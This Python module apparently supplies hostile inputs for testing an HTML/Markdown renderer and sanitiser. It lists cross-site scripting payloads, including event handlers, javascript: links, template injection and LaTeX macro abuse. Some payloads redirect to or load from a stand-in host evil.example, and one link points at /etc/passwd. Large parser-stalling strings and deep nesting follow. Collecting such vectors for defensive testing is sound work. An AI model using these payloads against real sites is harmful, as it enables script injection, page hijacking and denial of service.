"""Texts that have broken pages which make HTML of text, and texts that have stopped parsers of Markdown."""

VECTORS = """<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)">
<embed src="javascript:alert(1)">
<form action="javascript:alert(1)"><button>x</button></form>
<a href="javascript:alert(1)">x</a>
<base href="//evil.example/">
<meta http-equiv="refresh" content="0;url=//evil.example">
<link rel=stylesheet href=//evil.example/x.css>
<style>@import '//evil.example/x.css'</style>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<body onload=alert(1)>
<template><script>alert(1)</script></template>
<custom-element onclick=alert(1)>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java\\script:alert(1))
[x]( javascript:alert(1))
[x](&#106;avascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](blob:http://a/b)
[x](file:///etc/passwd)
[x](//evil.example)
[x](https://a.example/"onmouseover="alert(1))
[x](https://a.example/ "t" onclick=alert(1))
![x](https://evil.example/x.png)
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg onload=alert(1)>)
<javascript:alert(1)>
<https://a.example/"onclick=alert(1)>
https://a.example/"onclick="alert(1)
https://a.example/<script>alert(1)</script>
[<img src=x onerror=alert(1)>](https://a.example)
[a][b]\n\n[b]: javascript:alert(1)
```"><script>alert(1)</script>\nx\n```
```html\n</code></pre><script>alert(1)</script>\n```
`<script>alert(1)</script>`
| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | x |
# <img src=x onerror=alert(1)>
- <img src=x onerror=alert(1)>
> <img src=x onerror=alert(1)>
**<img src=x onerror=alert(1)>**
$\\href{javascript:alert(1)}{x}$
$\\htmlData{onclick=alert(1)}{x}$
$\\def\\a{\\a\\a}\\a$
$$\\rule{9999em}{9999em}$$
$$\\def\\x#1{#1#1#1#1#1#1#1#1}\\x{\\x{\\x{\\x{\\x{a}}}}}$$
\\(\\includegraphics{https://evil.example/x.png}\\)
\\[\\htmlStyle{position:fixed}{x}\\url{javascript:alert(1)}\\]
$\\color{red;background:url(//evil.example)}{x}$
$\\text{<img src=x onerror=alert(1)>}$
{{constructor.constructor('alert(1)')()}}
${alert(1)}
__proto__
constructor
\\u202Etxt.exe
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><x/>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<a name=config><a name=config id=x>
<img name=body><img id=getElementById>""".split("\n")

# Of 64 KB each: what nests, what opens and never closes, what could be looked at again from every place.
BOMBS = ["[", "![a](", "*a ", "_a ", "**", "`", "``a ", "> ", "- ", "1. ", "#", "# #", "|", "|-", "a|b\n", "~", "~~~\n",
         "```\n", "<", "</", "&", "\\", "(", "](", "[a](", "[a]: b\n", " ", "\t", "\n", "\r", "\r\n", "* * ", "- - - ",
         "  - a\n", "> - ", "https://a", "http", "h", "<https://", "!", "__a", "*_a", "a**b", "a`b", "\u0301", "\u202e",
         "\U0001f600", "\0", "$", "$$", "\\(", "$a", "$a$", "$$a$$\n", "\\[{", "${", "$_", "|a|\n|-|\n", "<a>", "=\n",
         "+ ", "0) "]


def hostile_texts():
    texts = [text.replace("\\n", "\n") for text in VECTORS]
    texts += [bomb * (65536 // len(bomb)) for bomb in BOMBS]
    texts.append("[" * (1 << 20))
    texts.append("".join("  " * depth + "- x\n" for depth in range(2000)))
    return texts
